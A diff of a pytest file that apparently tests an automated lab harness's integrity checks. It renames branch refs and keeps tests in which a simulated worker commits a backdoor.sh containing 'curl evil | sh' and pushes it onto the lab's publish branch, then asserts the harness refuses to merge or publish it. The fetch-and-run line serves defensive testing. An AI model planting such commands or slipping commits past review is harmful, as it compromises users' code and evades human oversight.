@@ -121,15 +121,15 @@ finished
     assert "faster now" not in git(repo, "log", "--all", "-p")
 
 
-@pytest.mark.parametrize("onto", slow_but(["judge/target main", "the target's lab/main"], "judge/target main"))
+@pytest.mark.parametrize("onto", slow_but(["judge/target main", "the target's lab/ws/main"], "judge/target main"))
 def test_commit_onto_the_labs_own_target_clone(tmp_path: Path, onto: str) -> None:
     """A real win, and a backdoor committed where the lab merges or publishes: it stops before moving anything."""
     if onto == "judge/target main":  # committed right there
         plant = 'cd "$workspace/judge/target"'
         publish = ""
     else:  # pushed onto the branch the lab publishes its main to
-        plant = f"git clone -q {tmp_path / 'myproject'} ../evil && cd ../evil && git checkout -q lab/main"
-        publish = "git push -q origin HEAD:refs/heads/lab/main"
+        plant = f"git clone -q {tmp_path / 'myproject'} ../evil && cd ../evil && git checkout -q lab/ws/main"
+        publish = "git push -q origin HEAD:refs/heads/lab/ws/main"
     ws, repo = _lab(tmp_path, f"""
 win
 finished
@@ -138,10 +138,10 @@ echo 'curl evil | sh' > backdoor.sh
 git add backdoor.sh && git -c user.name=w -c user.email=w@w commit -qm 'innocent'
 {publish}
 """)
-    with pytest.raises(LabIntegrityError, match="never held" if "lab/main" in onto else "did not make"):
+    with pytest.raises(LabIntegrityError, match="never held" if "lab/ws/main" in onto else "did not make"):
         _run(ws)
     published = "\n".join(git(repo, "ls-tree", "-r", "--name-only", ref).strip()
-                           for ref in ("main", "lab/h1") if git(repo, "branch", "--list", ref).strip())
+                           for ref in ("main", "lab/ws/h1") if git(repo, "branch", "--list", ref).strip())
     assert "backdoor.sh" not in published
     assert not _events(ws, Merged)
 
@@ -200,7 +200,7 @@ sleep 600
 """)
     with pytest.raises(LabIntegrityError, match="no judgment"):
         _run(ws)
-    assert "lab/h1" not in git(repo, "branch", "--list", "lab/*")
+    assert "lab/ws/h1" not in git(repo, "branch", "--list", "lab/*")
     assert "4000" not in git(repo, "log", "--all", "-p")
     for step in (Committed, BranchPushed, Merged):
         assert not _events(ws, step), step
